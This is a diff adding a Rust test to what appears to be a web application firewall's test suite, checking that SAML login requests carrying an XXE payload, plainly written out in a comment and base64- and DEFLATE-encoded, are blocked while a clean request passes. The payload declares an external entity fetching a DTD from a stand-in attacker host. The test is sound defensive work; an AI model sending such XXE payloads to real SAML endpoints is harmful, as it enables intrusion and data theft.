@@ -496,6 +496,41 @@ fn attacks_are_blocked_and_never_reach_the_origin() {
     assert_eq!(origin.connections(), 0);
 }
 
+/// SAML messages carry their XML encoded: base64 when posted, DEFLATE then base64 in a URL
+/// (the HTTP-Redirect binding). A DOCTYPE in a redirected `SAMLRequest` passed (200): the
+/// rule decoded the base64 and found compressed bytes.
+#[test]
+fn a_saml_message_with_a_doctype_is_blocked_posted_or_redirected() {
+    let origin = Origin::start();
+    let proxy = Proxy::start(&origin, Setup::default());
+    let login = "/contoso.onmicrosoft.com/B2C_1A_SAML/samlp/sso/login";
+    // `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/x.dtd">]>
+    // <samlp:AuthnRequest>&x;</samlp:AuthnRequest>`, compressed, then base64.
+    let redirected_xxe = "s7GvyM1RKEstKs7Mz7NVMtQzULK3s1F08XcOiQxwVShSiLZRdPUL8QyJVKhQCI4MDnH1VVDKKCkpsNLXTy3LzNFLrUjMLchJ1a%2FQSylJUbKLtbMpTszNKbByLC3JyAtKLSxNLS6xU6uwttHHIg4A";
+    // The same, base64 only.
+    let posted_xxe = "PD94bWwgdmVyc2lvbj0iMS4wIj8%2BPCFET0NUWVBFIHIgWzwhRU5USVRZIHggU1lTVEVNICJodHRwOi8vZXZpbC5leGFtcGxlL3guZHRkIj5dPjxzYW1scDpBdXRoblJlcXVlc3Q%2BJng7PC9zYW1scDpBdXRoblJlcXVlc3Q%2B";
+    // A clean AuthnRequest from `https://app.contoso.com`, compressed, then base64.
+    let redirected_clean = "fc9BCsIwEAXQq4Q5QKsVRIY0UOimoBsFtxJCpIUmEzMT8PhW3dSNq%2BHzPw9Gsw1zwq7IGM%2F%2BUTyLeoY5Mn6KFkqOSJYnxmiDZxSHl%2B50xKbaYMok5GgGNfQt3A73nWvsfgvq6jNPFFtYVmD0m8KBufi8wv%2FbltlnWRAwo0hirGubUuUoCjEtN%2Bh65Zpv%2Bv3EvAA%3D";
+    let r = proxy.get(
+        "login.contoso.com",
+        &format!("{login}?SAMLRequest={redirected_xxe}&RelayState=x"),
+        "",
+    );
+    r.assert_block_page();
+    let r = proxy.post(
+        login,
+        "application/x-www-form-urlencoded",
+        &format!("SAMLRequest={posted_xxe}"),
+    );
+    r.assert_block_page();
+    assert!(origin.seen().is_empty(), "{:?}", origin.seen());
+    let target = format!("{login}?SAMLRequest={redirected_clean}&RelayState=x");
+    let r = proxy.get("login.contoso.com", &target, "");
+    assert_eq!(r.status, 200, "{}", r.raw);
+    assert_eq!(origin.seen().len(), 1);
+    assert_eq!(origin.seen()[0].target, target);
+}
+
 #[test]
 fn detect_only_forwards_attacks_and_logs_them() {
     let origin = Origin::start();
